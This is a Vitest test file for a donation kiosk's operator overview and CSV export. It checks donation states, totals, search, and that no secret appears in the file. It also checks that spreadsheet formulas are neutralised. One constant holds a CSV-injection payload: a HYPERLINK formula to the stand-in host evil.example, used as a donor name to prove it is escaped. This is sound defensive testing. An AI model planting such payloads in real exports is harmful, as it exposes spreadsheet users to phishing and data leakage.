@@ -1,0 +1,153 @@
+// The operator's overview and CSV export over a day with paid, failed and
+// abandoned donations: every attempt with its state, formulas neutralised,
+// no secret in the file.
+import { afterEach, describe, expect, it } from 'vitest';
+import { readFileSync } from 'node:fs';
+import { join } from 'node:path';
+import type { Ledger } from '../../src-main/domain/ledger/ledger.ts';
+import { CSV_COLUMNS, neutraliseFormula } from '../../src-main/domain/exports/donations-csv.ts';
+import { formatLocalDay } from '../../src-main/services/operator-service.ts';
+import { OP_KEY_SECRET, startOperatorKiosk, type OperatorKiosk } from './support/operator-kiosk.ts';
+
+let kiosk: OperatorKiosk | null = null;
+afterEach(async () => {
+  await kiosk?.stop();
+  kiosk = null;
+});
+
+const EVIL = '=HYPERLINK("http://evil.example/x?a=1","Click, me")';
+
+/** RFC 4180 reader, enough for the test: quoted fields, doubled quotes, CRLF. */
+function parseCsv(text: string): string[][] {
+  const rows: string[][] = [];
+  let row: string[] = [];
+  let cell = '';
+  let quoted = false;
+  const endCell = () => {
+    row.push(cell);
+    cell = '';
+  };
+  for (let i = 0; i < text.length; i++) {
+    const c = text[i];
+    if (quoted) {
+      if (c === '"' && text[i + 1] === '"') {
+        cell += '"';
+        i++;
+      } else if (c === '"') quoted = false;
+      else cell += c;
+    } else if (c === '"') quoted = true;
+    else if (c === ',') endCell();
+    else if (c === '\r' && text[i + 1] === '\n') {
+      endCell();
+      rows.push(row);
+      row = [];
+      i++;
+    } else cell += c;
+  }
+  if (cell !== '' || row.length > 0) {
+    endCell();
+    rows.push(row);
+  }
+  return rows;
+}
+
+let seq = 0;
+function donation(ledger: Ledger, name: string | null, amountRupees: number) {
+  seq += 1;
+  const id = `dtest${String(seq).padStart(8, '0')}`;
+  ledger.createDonation(
+    { id, receipt: `K1-${id}`, kioskId: 'K1', cause: 'c', amountPaise: amountRupees * 100, anonymous: name === null, donorName: name, phone: name ? '+919812345678' : null, email: null },
+    'donor',
+  );
+  ledger.transition(id, 'order_created', 'gateway', { orderId: `order_${id}` });
+  return id;
+}
+
+function seed(ledger: Ledger) {
+  const paid = donation(ledger, 'Asha Rao', 500);
+  ledger.transition(paid, 'checkout_open', 'checkout');
+  ledger.transition(paid, 'paid', 'checkout', { paymentId: 'pay_PAID0000000001', paymentMethod: 'upi', paidAt: Date.now() });
+  const failed = donation(ledger, EVIL, 100);
+  ledger.transition(failed, 'checkout_open', 'checkout');
+  ledger.transition(failed, 'payment_failed', 'checkout', { failureCode: 'BAD_REQUEST_ERROR' });
+  const abandoned = donation(ledger, null, 1000);
+  ledger.transition(abandoned, 'closed_by_donor', 'donor');
+  const recovered = donation(ledger, '@Ravi', 250);
+  ledger.transition(recovered, 'checkout_open', 'checkout');
+  ledger.transition(recovered, 'payment_failed', 'checkout', { failureCode: 'GATEWAY_ERROR' });
+  ledger.transition(recovered, 'paid', 'reconciliation', { paymentId: 'pay_RECOVERED00001', paymentMethod: 'card', paidAt: Date.now() }, { recovered: true });
+  return { paid, failed, abandoned, recovered };
+}
+
+describe('neutraliseFormula', () => {
+  it('prefixes cells a spreadsheet would run, and only those', () => {
+    for (const cell of ['=1+1', '+91981', '-2', '@SUM(A1)', '\t=1', '\r=1']) expect(neutraliseFormula(cell)).toBe(`'${cell}`);
+    for (const cell of ['Asha', '500.00', '', ' =1', "'=1"]) expect(neutraliseFormula(cell)).toBe(cell);
+  });
+});
+
+describe('operator overview and CSV export', () => {
+  it('exports every attempt of the day with its state, neutralises formulas, and holds no secret', async () => {
+    kiosk = await startOperatorKiosk({ config: { gatewayTimeoutMs: 800 } });
+    await kiosk.unlocked();
+    const ids = seed(kiosk.services.ledger);
+    const today = formatLocalDay(new Date());
+    const reply = await kiosk.call('exportDonationsCsv', { from: today, to: today });
+    const path = join(kiosk.dataDir, 'exports', `donations-${today}-to-${today}.csv`);
+    expect(reply).toEqual({ ok: true, value: { path, rows: 4 } });
+
+    const text = readFileSync(path, 'utf8');
+    expect(text.startsWith('\uFEFF')).toBe(true);
+    expect(text).not.toContain(OP_KEY_SECRET);
+    const [header, ...rows] = parseCsv(text.slice(1));
+    expect(header).toEqual([...CSV_COLUMNS]);
+    const byId = new Map(rows.map((row) => [row[0], row]));
+    expect(byId.get(ids.paid)).toEqual([ids.paid, `K1-${ids.paid}`, expect.stringMatching(/^\d{4}-\d\d-\d\dT/), 'paid', '500.00', 'Asha Rao', "'+919812345678", '', `order_${ids.paid}`, 'pay_PAID0000000001', 'upi', '', 'no']);
+    expect(byId.get(ids.failed)).toMatchObject({ 3: 'payment_failed', 4: '100.00', 5: `'${EVIL}`, 11: 'BAD_REQUEST_ERROR', 12: 'no' });
+    expect(byId.get(ids.abandoned)).toMatchObject({ 3: 'closed_by_donor', 5: 'Anonymous', 6: '', 12: 'no' });
+    expect(byId.get(ids.recovered)).toMatchObject({ 3: 'paid', 5: "'@Ravi", 9: 'pay_RECOVERED00001', 12: 'yes' });
+    for (const row of rows) for (const cell of row) expect(cell, cell).not.toMatch(/^[=+\-@\t\r]/);
+  });
+
+  it('exports an empty range with just the header, and refuses a backwards or impossible range', async () => {
+    kiosk = await startOperatorKiosk({ config: { gatewayTimeoutMs: 800 } });
+    await kiosk.unlocked();
+    seed(kiosk.services.ledger);
+    expect(await kiosk.call('exportDonationsCsv', { from: '2020-01-01', to: '2020-01-31' })).toMatchObject({ ok: true, value: { rows: 0 } });
+    expect(await kiosk.call('exportDonationsCsv', { from: '2020-02-01', to: '2020-01-31' })).toMatchObject({ ok: false, error: { code: 'invalid_request' } });
+    expect(await kiosk.call('exportDonationsCsv', { from: '2020-02-30', to: '2020-03-01' })).toMatchObject({ ok: false, error: { code: 'invalid_request' } });
+  });
+
+  it('overview: counts and totals by state, newest first, search by name, receipt or payment id', async () => {
+    kiosk = await startOperatorKiosk({ config: { gatewayTimeoutMs: 800 } });
+    await kiosk.unlocked();
+    const ids = seed(kiosk.services.ledger);
+    const reply = await kiosk.call('getOperatorOverview', {});
+    if (!reply.ok) throw new Error(reply.error.message);
+    const overview = reply.value;
+    expect(overview.day).toBe(formatLocalDay(new Date()));
+    expect(overview.byState).toEqual([
+      { state: 'payment_failed', count: 1, amountRupees: 100 },
+      { state: 'closed_by_donor', count: 1, amountRupees: 1000 },
+      { state: 'paid', count: 2, amountRupees: 750 },
+    ]);
+    expect(overview).toMatchObject({ receivedRupees: 750, paidCount: 2, recoveredCount: 1, mode: 'test', version: '1.2.3', settings: { kioskId: 'KIOSK-1', eventName: '' } });
+    expect(overview.donations.map((d) => d.donationId)).toEqual([ids.recovered, ids.abandoned, ids.failed, ids.paid]);
+    expect(overview.donations[0]).toMatchObject({ recovered: true, amountRupees: 250, paymentId: 'pay_RECOVERED00001', donorName: '@Ravi' });
+    expect(overview.donations[1]).toMatchObject({ donorName: null, state: 'closed_by_donor' });
+
+    const running = kiosk;
+    const search = async (text: string) => {
+      const found = await running.call('getOperatorOverview', { search: text });
+      return found.ok ? found.value.donations.map((d) => d.donationId) : found.error.code;
+    };
+    expect(await search('asha')).toEqual([ids.paid]);
+    expect(await search(`K1-${ids.failed}`)).toEqual([ids.failed]);
+    expect(await search('pay_RECOVERED')).toEqual([ids.recovered]);
+    expect(await search('%')).toEqual([]);
+    expect(await search('nobody')).toEqual([]);
+    const otherDay = await kiosk.call('getOperatorOverview', { day: '2020-01-01' });
+    expect(otherDay).toMatchObject({ ok: true, value: { day: '2020-01-01', donations: [], byState: [], receivedRupees: 0 } });
+    expect(await kiosk.services.dispatch('getOperatorOverview', { day: '01-01-2020' })).toMatchObject({ ok: false, error: { code: 'invalid_request' } });
+  });
+});
